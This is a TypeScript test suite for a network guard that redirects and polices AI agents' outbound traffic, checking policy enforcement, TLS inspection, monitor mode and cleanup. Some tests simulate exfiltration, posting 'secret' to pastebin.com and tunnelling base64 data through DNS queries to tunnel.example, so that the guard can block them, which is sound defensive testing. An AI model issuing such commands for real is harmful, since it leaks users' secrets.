import { once } from 'node:events';
import { createServer as createHttpServer } from 'node:http';
import { networkInterfaces } from 'node:os';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { CallerFinder } from '../../callers/caller-finder.ts';
import { Inventory } from '../../discovery/inventory.ts';
import { CANARY_HOST } from '../../proxy/canary-host.ts';
import { DnsServer } from '../../testing/dns-server.ts';
import { TestInterception } from '../../testing/test-interception.ts';
import type { GuardDenial, GuardPolicy } from '../guard-policy.ts';
import { CANARY_COMMAND } from './canary-program.ts';
import { NetworkBackEnd } from './network-back-end.ts';
import { removeRedirects } from './open-redirect.ts';
import { redirectedCallersFrom } from './redirected-callers.ts';
import { GovernedFolder, type GovernedProgram, REDIRECTS } from './testing/governed-group.ts';

const MAIN = new URL('../../cli/main.ts', import.meta.url).pathname;
/** Where all names lead that the tests' name server knows (RFC 5737, RFC 3849). */
const AWAY = '203.0.113.10';
const AWAY6 = '2001:db8::10';
const HAS_IPV6 = networkInterfaces().lo?.some(({ family }) => family === 'IPv6') === true;
/** An address of this machine that is not the loopback's, where there is one: what is sent there does not leave it. */
const OWN =
  Object.values(networkInterfaces())
    .flat()
    .find((one) => one?.family === 'IPv4' && !one.internal)?.address ?? '127.0.0.1';
const KEY = 'authorization: Bearer k';
const ONLY_OPENAI =
  'network: { default: deny, rules: [{ id: openai, effect: allow, destinations: [api.openai.com] }] }';

for (const [name, redirect] of Object.entries(REDIRECTS)) {
  const untestable = redirect.untestable();
  describe.skipIf(untestable !== undefined)(
    `AI agents that know nothing of the proxy, by ${name} (${untestable ?? 'as root'})`,
    () => {
      let folder: GovernedFolder;
      let world: TestInterception;
      let dns: DnsServer;
      let program: GovernedProgram;
      let backEnd: NetworkBackEnd;
      const finder = new CallerFinder();
      const denials: GuardDenial[] = [];

      beforeAll(async () => {
        if (untestable !== undefined) return;
        folder = new GovernedFolder();
        dns = await DnsServer.start();
        world = await TestInterception.start();
        const inventory = new Inventory({ device: 'test' });
        await inventory.refresh();
        program = await folder.start('run-test');
        backEnd = new NetworkBackEnd({
          cgroups: folder.cgroups,
          open: () => redirect.open(folder.redirectOptions(finder)),
          remove: () => removeRedirects({ pins: folder.pins, table: folder.name }),
          policy: world.policy,
          mode: () => world.mode,
          identify: redirectedCallersFrom(inventory, finder),
          take: (tunnel) => world.proxy.take(tunnel),
          dnsServers: [dns.address],
          canaryCommand: [process.execPath, MAIN, CANARY_COMMAND],
          failed: (error) => {
            throw error;
          },
        });
        await backEnd.start({ denied: (denial) => denials.push(denial), lost: () => {} });
        await hold('enforce');
      });
      afterEach(async () => {
        if (untestable !== undefined) return;
        world.reset();
        await hold('enforce');
        denials.length = 0;
        dns.asked.length = 0;
        dns.answer = known;
      });
      afterAll(async () => {
        await backEnd?.remove();
        await world?.stop();
        await dns?.stop();
        finder.close();
        await folder?.end();
      });

      /** Every name leads to addresses where nobody is, of both families. */
      const known: DnsServer['answer'] = () => ({ addresses: HAS_IPV6 ? [AWAY, AWAY6] : [AWAY], ttl: 0 });

      async function hold(network: GuardPolicy['network']): Promise<void> {
        dns.answer = known;
        await backEnd.apply('run-test', { digest: '', revision: 1, lists: [], network });
      }

      function curl(...parameters: string[]) {
        return program.run(['curl', '-sS', '-m', '10', '--cacert', world.rootFile, '-H', KEY, ...parameters]);
      }

      test('a call that curl makes to a provider is seen, read, decided and recorded', async () => {
        const { stdout, stderr } = await curl('https://api.openai.com/v1/models');
        expect(stderr).toBe('');
        expect(stdout).toContain('"object":"list"');
        const event = await world.recorded('network.request');
        expect(event).toMatchObject({
          verdict: { outcome: 'ALLOW' },
          data: {
            host: 'api.openai.com',
            provider: 'openai',
            inspected: true,
            redirectedFrom: expect.stringMatching(/:443$/),
          },
        });
        expect(event.actor.pid).toBeGreaterThan(0);
        expect(dns.asked).toContain('api.openai.com');
      });

      test('so is one that Node.js makes', async () => {
        const script =
          "fetch('https://api.openai.com/v1/models', { headers: { authorization: 'Bearer k' } }).then((answer) => console.log(answer.status))";
        const { stdout } = await program.run([process.execPath, '-e', script], {
          NODE_EXTRA_CA_CERTS: world.rootFile,
        });
        expect(stdout).toBe('200\n');
        expect(await world.recorded('network.request', 'api.openai.com')).toMatchObject({
          data: { inspected: true },
        });
      });

      test.each(HAS_IPV6 ? ['-4', '-6'] : ['-4'])(
        'over either family of addresses (curl %s)',
        async (family) => {
          const { stdout } = await curl(
            family,
            '-o',
            '/dev/null',
            '-w',
            '%{http_code} %{remote_ip}',
            'https://api.openai.com/v1/models',
          );
          expect(stdout).toBe(`200 ${family === '-4' ? AWAY : AWAY6}`);
        },
      );

      test('what policy denies is refused with its reason, inside TLS and in the clear', async () => {
        world.enforce("rules: [{ id: no-deepseek, effect: deny, destinations: ['*.deepseek.com'] }]");
        const at = `api.deepseek.com:443:${AWAY}`;
        expect((await curl('--resolve', at, 'https://api.deepseek.com/v1/models')).stdout).toContain(
          'no-deepseek',
        );
        const clear = `api.deepseek.com:80:${AWAY}`;
        expect((await curl('--resolve', clear, 'http://api.deepseek.com/v1/models')).stdout).toContain(
          'no-deepseek',
        );
        expect(world.upstream.requests).toEqual([]);
      });

      test('K6: a host off the allow list is reached neither by name, nor by address, nor behind the name of another', async () => {
        world.govern(ONLY_OPENAI);
        expect(await curl('https://pastebin.com/')).toMatchObject({ code: 6 });
        expect(dns.asked).toEqual([]);
        const here = `pastebin.com:443:${AWAY}`;
        expect((await curl('--resolve', here, '-d', 'secret', 'https://pastebin.com/')).stdout).toContain(
          'Blocked by Raypher',
        );
        expect((await curl('-k', '-d', 'secret', `https://${AWAY}/`)).stdout).toContain('Blocked by Raypher');
        // The name that is allowed leads to where it is, whatever address the program went to.
        const front = await curl(
          '--connect-to',
          `api.openai.com:443:${AWAY}:443`,
          'https://api.openai.com/v1/models',
        );
        expect(front.stdout).toContain('"object":"list"');
        const fronted = await curl('-H', 'host: pastebin.com', 'https://api.openai.com/v1/models');
        expect(fronted.stdout).toContain('not pastebin.com');
        expect(world.upstream.requests.every(({ headers }) => headers.host !== 'pastebin.com')).toBe(true);
        expect(denials[0]).toMatchObject({
          operation: 'look up',
          target: 'pastebin.com',
          group: 'run-test',
          blocked: true,
          rule: { layer: 'global', id: 'network/default' },
        });
      });

      test('what is no HTTP goes by the name that the address was looked up by', async () => {
        world.govern(ONLY_OPENAI);
        dns.answer = () => ({ addresses: ['203.0.113.22'], ttl: 0 });
        const deed = { kind: 'connect', port: 22, data: 'no HTTP at all\r\n', ends: true } as const;
        /** A machine that is held up forgets the name, or does not find in time who connects: then it is done again. */
        const tunnelled = (host: string, name: string, prepare: () => Promise<unknown>) =>
          expect.poll(async () => {
            await prepare();
            await program.does({ ...deed, host });
            return world.events.find(({ type, data }) => type === 'network.tunnel' && data.host === name);
          });
        const lookUp = () => curl('-4', 'https://api.openai.com/v1/models');
        await tunnelled('203.0.113.22', 'api.openai.com', lookUp).toMatchObject({
          verdict: { rule: 'openai' },
          data: { redirectedFrom: '203.0.113.22:22', uninspectedBecause: 'not-tls' },
        });
        await tunnelled('203.0.113.23', '203.0.113.23', async () => {}).toMatchObject({
          verdict: { rule: 'network/default' },
          data: { denied: true },
        });
        expect(await program.does({ ...deed, host: '203.0.113.23' })).toMatchObject({ answer: '' });
      });

      test('tunnels that are not read are judged by the name in their handshake', async () => {
        world.isOn = false;
        world.govern(ONLY_OPENAI);
        expect(
          (await curl('-k', '--resolve', `pastebin.com:443:${AWAY}`, 'https://pastebin.com/')).code,
        ).not.toBe(0);
        expect(await world.recorded('network.tunnel', 'pastebin.com')).toMatchObject({
          data: { denied: true, inspected: false },
        });
      });

      test('data in names goes nowhere: forbidden names, odd records, and too much of it', async () => {
        world.govern(ONLY_OPENAI);
        const ask = (name: string, type: number) =>
          program.does({
            kind: 'datagram',
            host: '192.0.2.53',
            port: 53,
            data: question(name, type),
            connected: true,
            answers: true,
          });
        for (const type of [1, 16, 10, 255])
          expect(rcodeOf(await ask('c2VjcmV0.tunnel.example', type))).toBe(5);
        world.enforce('rules: []');
        expect(rcodeOf(await ask('c2VjcmV0.tunnel.example', 16))).toBe(5);
        expect(dns.asked).toEqual([]);
        expect(rcodeOf(await ask('use-application-dns.net', 1))).toBe(3);
        expect(rcodeOf(await ask('site.example', 65))).toBe(0);
        expect(dns.asked).toEqual([]);
        expect(rcodeOf(await ask('SITE.example', 1))).toBe(0);
        expect(dns.asked).toEqual(['site.example']);
      });

      test('names are looked up over TCP as well', async () => {
        const asked = Buffer.from(question('site.example', 16), 'base64');
        const data = Buffer.concat([Buffer.of(0, asked.length), asked]).toString('latin1');
        const deed = { kind: 'connect', host: '192.0.2.53', port: 53, data, ends: true } as const;
        const outcome = await program.does(deed);
        // Length, then header: refused, because nobody allowed such records of this name.
        expect('answer' in outcome && Buffer.from(outcome.answer, 'latin1').readUInt8(5) & 15).toBe(5);
      });

      test('in monitor mode nothing is refused, and what would have been is recorded', async () => {
        world.govern('network: { default: deny }', 'monitor');
        await hold('monitor');
        expect((await curl('https://api.openai.com/v1/models')).stdout).toContain('"object":"list"');
        expect(await world.recorded('network.request')).toMatchObject({
          data: { denied: false, wouldBlock: true },
        });
        await program.does({
          kind: 'datagram',
          host: OWN,
          port: 9,
          data: 'aGk=',
          connected: false,
          answers: false,
        });
        await expect
          .poll(() => denials.map(({ operation, target, blocked }) => ({ operation, target, blocked })))
          .toEqual(
            expect.arrayContaining([
              { operation: 'look up', target: 'api.openai.com', blocked: false },
              ...(OWN === '127.0.0.1' ? [] : [{ operation: 'send', target: `${OWN}:9/udp`, blocked: false }]),
            ]),
          );
      });

      test('the same program outside is not touched', async (context) => {
        if (OWN === '127.0.0.1') return context.skip('this machine has no address but the loopback');
        const server = createHttpServer((_request, response) => response.end('direct')).listen(0, OWN);
        await once(server, 'listening');
        const address = server.address();
        const url = `http://${OWN}:${typeof address === 'object' ? address?.port : 0}/`;
        expect(await (await fetch(url)).text()).toBe('direct');
        expect(world.events).toEqual([]);
        expect((await curl(url)).stdout).toContain('builtin/private-address');
        server.close();
      });

      test('a canary proves each capability, and leaves no trace', async () => {
        world.enforce(`rules: [{ id: canary, effect: deny, destinations: [${CANARY_HOST}] }]`);
        const findings = await Promise.all(
          backEnd.capabilities.map((capability) => backEnd.probe(capability)),
        );
        expect(findings.map(({ state, reason }) => `${state}: ${reason}`)).toEqual([
          expect.stringMatching(/^enforced: .*datagram/),
          expect.stringMatching(/^enforced: .*connection/),
          expect.stringMatching(/^enforced: .*name/),
        ]);
        world.govern('network: { default: allow }', 'monitor');
        expect(await backEnd.probe('kernel.redirect')).toMatchObject({ state: 'observing' });
        expect(denials).toEqual([]);
        expect(folder.cgroups.list()).toEqual(['run-test']);
      });

      test('what is in force stays so when the service stops, and is gone when it is removed', async () => {
        await backEnd.stop();
        expect(await curl('https://api.openai.com/v1/models')).toMatchObject({ code: 6 });
        expect(await backEnd.probe('kernel.redirect')).toEqual({
          state: 'unavailable',
          reason: 'it is not running',
        });
        await backEnd.start({ denied: (denial) => denials.push(denial), lost: () => {} });
        expect((await curl('https://api.openai.com/v1/models')).stdout).toContain('"object":"list"');
        await backEnd.stop();
        expect(redirect.stays(folder)).toBe(true);
        await backEnd.remove();
        expect(redirect.stays(folder)).toBe(false);
        if (OWN === '127.0.0.1') return;
        const server = createHttpServer((_request, response) => response.end('direct')).listen(0, OWN);
        await once(server, 'listening');
        const address = server.address();
        const url = `http://${OWN}:${typeof address === 'object' ? address?.port : 0}/`;
        expect((await curl(url)).stdout).toBe('direct');
        server.close();
      });
    },
  );
}

/** A question as programs ask it, in base64. */
function question(name: string, type: number): string {
  const labels = name.split('.').flatMap((label) => [label.length, ...Buffer.from(label)]);
  return Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, type, 0, 1]).toString('base64');
}

function rcodeOf(outcome: { answer: string } | { error: string }): number | string {
  return 'error' in outcome ? outcome.error : Buffer.from(outcome.answer, 'base64').readUInt8(3) & 15;
}
